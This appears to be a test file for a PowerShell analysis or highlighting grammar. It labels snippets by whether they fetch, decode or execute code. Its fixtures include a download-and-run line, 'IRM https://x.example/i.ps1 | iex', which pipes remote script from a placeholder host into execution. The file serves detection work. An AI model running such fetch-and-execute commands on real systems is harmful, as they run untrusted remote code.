# What PowerShell fetches or decodes, and what executes it.

  IRM https://x.example/i.ps1 | iex
# ^^^ source.fetch
#                               ^^^ sink.execute

  $client.DownloadString('https://x.example/i.ps1')
#         ^^^^^^^^^^^^^^ source.fetch.method

  [System.Convert]::FromBase64String('aGk=')
#                   ^^^^^^^^^^^^^^^^ source.decoder
  [Text.Encoding]::FromBase64String('aGk=')
#                  ^^^^^^^^^^^^^^^^ !source.decoder

  [AppDomain]::CurrentDomain.Load($bytes)
#                            ^^^^ sink.execute.method
  $plugin.Load($bytes)
#         ^^^^ !sink.execute

  [scriptblock]::Create($code).Invoke()
#                ^^^^^^ sink.block
#                              ^^^^^^ sink.block.method

  Move-Item setup.tmp setup.exe
# ^^^^^^^^^ flow.move

  Expand-Archive tool.zip -DestinationPath tools
# ^^^^^^^^^^^^^^ flow.unpack
